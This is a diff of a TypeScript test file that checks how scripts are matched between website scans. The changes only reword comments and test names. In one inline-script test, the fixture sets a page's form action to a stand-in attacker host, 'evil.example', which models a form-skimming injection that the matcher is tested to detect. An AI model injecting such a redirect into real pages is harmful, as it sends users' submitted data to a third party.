@@ -1,4 +1,4 @@
-// Guards which script of one scan is which of another: a deploy is "rebuilt", not "removed and added".
+// Matching of scripts between scans: a deploy is "rebuilt", not "removed and added".
 import { describe, expect, it } from 'vitest'
 import { matchScripts, type ScriptIdentity, sketchOf } from '#changes/index.ts'
 import { sha256Hex } from '#shared/sha256.ts'
@@ -21,7 +21,7 @@ function script(text: string, given: Partial<ScriptIdentity> = {}): ScriptIdenti
   }
 }
 
-/** A bundle of parts with the numbers given; other numbers are other code. */
+/** A bundle of parts with the given numbers; other numbers are other code. */
 const bundle = (numbers: readonly number[], end = '') =>
   numbers.map((n) => `function f${n}(a){ return a.m${n}(${n}) + a.n${n}.length * a.o${n} }`).join('\n') + end
 const numbers = Array.from({ length: 20 }, (_, index) => index)
@@ -35,14 +35,14 @@ describe('scripts with addresses', () => {
     expect(told([a], [b])).toEqual([`${a.id} address ${b.id}`])
   })
 
-  it('are found again under another hash or version in the name', () => {
+  it('are matched under another hash or version in the name', () => {
     const at = (name: string, text: string) => script(text, { url: `https://x.example/static/js/${name}` })
     const [a, b] = [at('main.3f2a9c1b.js', 'a()'), at('vendor.11aa22bb.js?v=1', 'v()')]
     const [c, d] = [at('vendor.99cc00dd.js?v=2', 'w()'), at('main.77d0e4aa.js', 'b()')]
     expect(told([a, b], [c, d])).toEqual([`${a.id} template ${d.id}`, `${b.id} template ${c.id}`])
   })
 
-  it('are found again by their code where the name says nothing', () => {
+  it('are matched by their code if the name gives no hint', () => {
     const a = script(bundle(numbers), { url: 'https://x.example/assets/kestrel.js' })
     const b = script(bundle(numbers.slice(1), '\nmore.and()'), { url: 'https://x.example/assets/heron.js' })
     const c = script('other.code()', { url: 'https://x.example/assets/wren.js' })
@@ -54,7 +54,7 @@ describe('scripts with addresses', () => {
     expect(told([a], [b])).toEqual([`${a.id} none -`, `- none ${b.id}`])
   })
 
-  it('are found by a template that earlier scans taught', () => {
+  it('are matched by a template from earlier scans', () => {
     const at = (name: string, text: string) => script(text, { url: `https://x.example/app/${name}/main.js` })
     const history = [[at('kestrel', bundle(numbers))], [at('heron', bundle(numbers, '\nx.y()'))]]
     const [a, b] = [at('heron', bundle(numbers)), at('wren', 'now.quite.another()')]
@@ -62,7 +62,7 @@ describe('scripts with addresses', () => {
     expect(told([a], [b], history)).toEqual([`${a.id} template ${b.id}`])
   })
 
-  it('of a deploy are all rebuilt, none gone and none new', () => {
+  it('of a deploy are all rebuilt, none removed and none new', () => {
     const at = (index: number, build: string) =>
       script(
         bundle(
@@ -83,36 +83,36 @@ describe('scripts with addresses', () => {
 describe('inline scripts', () => {
   const slider = (n: number, more = '') => `var track = document.getElementById('slider-${n}'); track.start(4000);${more}`
 
-  it('that look alike are told apart: the unchanged one is itself, the turned one is the change', () => {
+  it('that look alike are distinguished: the unchanged one stays, the changed one is the change', () => {
     const [a, b] = [script(slider(1), { order: 0 }), script(slider(2), { order: 1 })]
     const turned = script(slider(1, 'document.forms[0].action = "https://evil.example/"'), { order: 0 })
     const kept = script(slider(2), { order: 1 })
     expect(told([a, b], [turned, kept]).sort()).toEqual([`${a.id} likeness ${turned.id}`, `${b.id} content ${kept.id}`].sort())
-    // The same where they also change places.
+    // The same if they also swap places.
     const [first, second] = [script(slider(2), { order: 0 }), script(slider(1, 'evil()'), { order: 1 })]
     expect(told([a, b], [first, second])).toEqual([`${a.id} likeness ${second.id}`, `${b.id} content ${first.id}`])
   })
 
-  it('with other data are found by their shape, nearest first', () => {
+  it('with other data are matched by their shape, nearest first', () => {
     const [a, b] = [script('push({ "n": "1" })', { order: 3 }), script('push({ "n": "2" })', { order: 7 })]
     const [c, d] = [script('push({ "n": "3" })', { order: 4 }), script('push({ "n": "4" })', { order: 8 })]
     expect(told([a, b], [c, d])).toEqual([`${a.id} shape ${c.id}`, `${b.id} shape ${d.id}`])
   })
 
-  it('are found by the id of their element, and else only where what stands round them is the same', () => {
+  it('are matched by the ID of their element, or else only if their surroundings are the same', () => {
     const [a, b] = [script('one()', { elementId: 'config' }), script('quite.another = 2', { elementId: 'config' })]
     expect(told([a], [b])).toEqual([`${a.id} element ${b.id}`])
     const [c, d] = [script('one()'), script('quite.another = 2')]
     expect(told([c], [d])).toEqual([`${c.id} none -`, `- none ${d.id}`])
   })
 
-  it('of another frame are others', () => {
+  it('of another frame are different scripts', () => {
     const [a, b] = [script('one()'), script('one()', { frame: 'https://shop.example/help' })]
     expect(told([a], [b])).toEqual([`${a.id} none -`, `- none ${b.id}`])
   })
 })
 
-it('every script is told once, also where many are the same', () => {
+it('every script is reported once, even if many are equal', () => {
   const [before, after] = [7, 5].map((length) => Array.from({ length }, (_, order) => script('same()', { order })))
   const matches = matchScripts(before!, after!)
   expect(matches.filter(({ by }) => by === 'content')).toHaveLength(5)
